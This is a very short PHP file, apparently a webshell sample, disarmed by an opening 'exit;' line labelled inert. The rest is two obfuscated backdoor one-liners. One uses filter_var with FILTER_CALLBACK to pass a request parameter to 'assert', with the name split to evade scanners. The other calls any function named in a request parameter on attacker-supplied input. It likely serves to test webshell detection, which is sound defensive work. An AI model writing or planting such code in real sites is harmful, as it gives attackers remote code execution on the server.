<?php exit; /* inert */ 
filter_var($_REQUEST['pass'], FILTER_CALLBACK, array('options' => 'ass' . 'ert'));
filter_var_array(array('t' => $_REQUEST['p2']), array('t' => array('filter' => FILTER_CALLBACK, 'options' => $_REQUEST['o'])));
